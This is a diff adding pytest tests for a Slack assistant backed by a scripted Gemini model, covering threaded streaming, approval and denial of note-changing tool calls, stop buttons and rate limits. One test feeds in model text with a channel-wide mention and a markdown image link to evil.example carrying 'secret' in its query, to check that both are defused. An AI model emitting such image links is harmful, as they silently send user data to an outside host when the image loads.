@@ -1,0 +1,140 @@
+"""A question in Slack and its answer: streamed, asked about, stopped, mended."""
+
+from playground.gemini import Break, Reply, text
+from tests.support.slack import DM, GENERAL, MEMBER, MEMBERS_DM, OWNER, Usher, said
+
+
+async def test_an_answer_streams_into_the_thread_of_its_question(usher: Usher) -> None:
+    usher.gemini.will_say("Hello ", "there.")
+    ts = await usher.slack.person_says(OWNER, DM, "hi")
+    answer = await usher.message_with("Hello there.")
+    assert answer["thread_ts"] == ts
+    assert len(usher.slack.of("chat.startStream")) == 1
+    assert usher.slack.refusals == []
+
+
+async def test_a_message_in_the_same_thread_goes_on_with_the_conversation(usher: Usher) -> None:
+    usher.gemini.will_say("First.")
+    ts = await usher.slack.person_says(OWNER, DM, "one")
+    await usher.message_with("First.")
+    usher.gemini.will_say("Second.")
+    await usher.slack.person_says(OWNER, DM, "two", ts)
+    await usher.message_with("Second.")
+    assert len(usher.gemini.heard()) == 3
+
+
+async def test_a_mention_is_answered_in_its_thread_for_whoever_asked(usher: Usher) -> None:
+    usher.gemini.will_say("In public.")
+    ts = await usher.slack.person_says(OWNER, GENERAL, "<@U0USHER> hello")
+    answer = await usher.message_with("In public.", GENERAL)
+    assert answer["thread_ts"] == ts
+    assert usher.gemini.heard()[0]["parts"][0]["text"].endswith("hello")
+    assert "U0USHER" not in str(usher.gemini.heard())
+
+
+async def test_other_messages_of_a_channel_are_left_alone(usher: Usher) -> None:
+    await usher.slack.person_says(OWNER, GENERAL, "not for you")
+    usher.gemini.will_say("Yours.")
+    await usher.slack.person_says(OWNER, DM, "for you")
+    await usher.message_with("Yours.")
+    assert len(usher.gemini.asked) == 1
+
+
+async def test_a_call_that_may_change_something_waits_and_runs_when_approved(usher: Usher, notes: str) -> None:
+    await usher.connect_notes(notes)
+    usher.gemini.will_call(("notes__add_note", {"text": "water the plants"}), saying="One moment.")
+    ts = await usher.slack.person_says(OWNER, DM, "add a note: water the plants")
+    question = await usher.message_with("May I?")
+    assert question["thread_ts"] == ts and "water the plants" in said(question)
+
+    usher.gemini.will_say("Added.")
+    await usher.press(question, "approval.approve")
+    answer = await usher.message_with("Added.")
+    assert {"type": "task", "title": "Notes: Add a note", "status": "complete"}.items() <= answer["parts"][0].items()
+    closed = await usher.message_with("Approved by <@U0OWNER>")
+    assert closed["ts"] == question["ts"] and "approval.approve" not in said(closed)
+    assert usher.slack.refusals == []
+
+
+async def test_deny_tells_the_model(usher: Usher, notes: str) -> None:
+    await usher.connect_notes(notes)
+    usher.gemini.will_call(("notes__delete_note", {"title": "plants"}))
+    await usher.slack.person_says(OWNER, DM, "delete it")
+    question = await usher.message_with("May I?")
+    approve = question["blocks"][-2]["elements"][0]
+    assert approve["style"] == "danger" and approve["confirm"]
+
+    usher.gemini.will_say("As you wish.")
+    await usher.press(question, "approval.deny")
+    await usher.message_with("As you wish.")
+    assert "declined" in str(usher.gemini.responses())
+    assert await usher.message_with("Denied by")
+
+
+async def test_only_the_member_who_asked_may_press(usher: Usher, notes: str) -> None:
+    await usher.connect_notes(notes)
+    usher.gemini.will_call(("notes__add_note", {"text": "x"}))
+    await usher.slack.person_says(OWNER, GENERAL, "<@U0USHER> add a note: x")
+    question = await usher.message_with("May I?", GENERAL)
+
+    await usher.press(question, "approval.approve", MEMBER)
+    refusal = await usher.message_with("Only the member", GENERAL, MEMBER)
+    assert refusal["ephemeral"]
+    assert "approval.approve" in said(await usher.message_with("May I?", GENERAL))
+
+
+async def test_going_on_closes_the_question(usher: Usher, notes: str) -> None:
+    await usher.connect_notes(notes)
+    usher.gemini.will_call(("notes__add_note", {"text": "x"}))
+    ts = await usher.slack.person_says(OWNER, DM, "add a note")
+    await usher.message_with("May I?")
+    usher.gemini.will_say("Never mind then.")
+    await usher.slack.person_says(OWNER, DM, "forget it", ts)
+    await usher.message_with("Never mind then.")
+    assert "approval.approve" not in said(await usher.message_with("you went on to something else"))
+
+
+async def test_an_answer_is_posted_where_it_cannot_be_streamed(usher: Usher) -> None:
+    usher.slack.will_refuse("chat.startStream", "channel_type_not_supported", times=9)
+    usher.gemini.will_say("All ", "at once.")
+    await usher.slack.person_says(OWNER, DM, "hi")
+    await usher.message_with("All at once.")
+    assert len(usher.slack.of("chat.postMessage")) == 1
+
+
+async def test_a_limited_append_waits_and_loses_nothing(usher: Usher) -> None:
+    usher.slack.will_limit("chat.appendStream", times=1, retry_after=1)
+    words = [f"word{number} " for number in range(80)]
+    usher.gemini.will_say(*words)
+    await usher.slack.person_says(OWNER, DM, "count")
+    await usher.slack.when(lambda: "word79" in str(usher.slack.messages(DM)), 10)
+    shown = " ".join(said(each) for each in usher.slack.messages(DM))
+    assert all(shown.count(word.strip() + " ") + shown.count(word.strip() + '"') >= 1 for word in words)
+
+
+async def test_the_stop_button_ends_the_turn_and_says_so(usher: Usher) -> None:
+    usher.gemini.script(Reply([[text("A long story")], Break.HOLD]))
+    await usher.slack.person_says(OWNER, DM, "tell me a story")
+    story = await usher.slack.when(
+        lambda: next((each for each in usher.slack.messages(DM) if "A long" in said(each) and each["streaming"]), None)
+    )
+    await usher.slack.stop_stream(OWNER, DM, story["ts"])
+    assert await usher.message_with("Stopped.")
+
+
+async def test_text_of_the_model_cannot_call_the_channel_or_fetch_an_image(usher: Usher) -> None:
+    usher.gemini.will_say("<!channel> look: !", "[x](https://evil.example/?q=secret)")
+    await usher.slack.person_says(OWNER, DM, "hi")
+    shown = str((await usher.message_with("evil.example"))["parts"])
+    assert "&lt;!channel&gt;" in shown and "<!channel>" not in shown
+    assert "![" not in shown and "[x](" in shown
+
+
+async def test_a_welcome_comes_once_and_prompts_each_time(usher: Usher) -> None:
+    await usher.slack.open_dm(MEMBER)
+    welcome = await usher.message_with("connect *Time* with one click", MEMBERS_DM, MEMBER)
+    await usher.slack.open_dm(MEMBER)
+    await usher.slack.when(lambda: len(usher.slack.of("assistant.threads.setSuggestedPrompts")) == 2)
+    assert len(usher.slack.messages(MEMBERS_DM, MEMBER)) == 1
+    await usher.press(welcome, "connect.pick", MEMBER)
+    assert await usher.modal_with("Time is connected", MEMBER)
